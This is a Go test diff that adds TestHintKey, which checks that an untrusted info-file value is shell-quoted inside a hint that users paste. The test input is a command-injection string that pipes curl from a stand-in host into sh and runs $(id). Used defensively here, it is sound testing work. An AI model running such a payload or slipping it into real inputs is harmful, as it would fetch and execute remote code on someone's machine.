@@ -264,6 +264,14 @@ func TestKeys(t *testing.T) {
 	}
 }
 
+// TestHintKey: what an info file says, for which nobody vouches, is no command of its own in a hint that people paste.
+func TestHintKey(t *testing.T) {
+	t.Parallel()
+	if got := HintKey("x; curl evil|sh $(id)"); !strings.Contains(got, "-field=key 'x; curl evil|sh $(id)' >FILE") {
+		t.Error(got)
+	}
+}
+
 // TestParseInfo: what HPCS writes, and nothing else.
 func TestParseInfo(t *testing.T) {
 	t.Parallel()
